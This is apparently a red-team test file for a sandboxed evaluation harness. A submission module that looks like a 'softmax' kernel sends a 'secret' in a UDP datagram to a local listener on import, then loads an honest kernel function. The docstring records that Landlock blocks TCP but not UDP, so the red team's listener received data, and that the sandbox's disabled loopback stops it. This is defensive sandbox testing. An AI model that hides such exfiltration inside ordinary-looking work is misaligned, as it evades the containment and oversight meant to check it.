"""Attack (red team, round 3): send a secret in a UDP datagram to a listener on 127.0.0.1.

Landlock denies TCP, not UDP: the red team's listener got the datagram. Harmless in the sandbox's network
namespace, whose loopback is down: the test's listener receives nothing.
"""

import runpy
import socket
from pathlib import Path

KERNEL_TYPE = "softmax"
_here = Path(__file__).with_name
_escape = runpy.run_path(str(_here("_escape_parts.py")))
try:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _udp:
        _udp.sendto(b"secret over udp", ("127.0.0.1", int(_escape["target"]("port"))))
    _escape["note"]("udp sent")
except (OSError, TypeError, ValueError) as exc:
    _escape["note"](f"udp refused: {exc}")
kernel_fn = runpy.run_path(str(_here("_parts.py")))["honest_kernel_fn"]
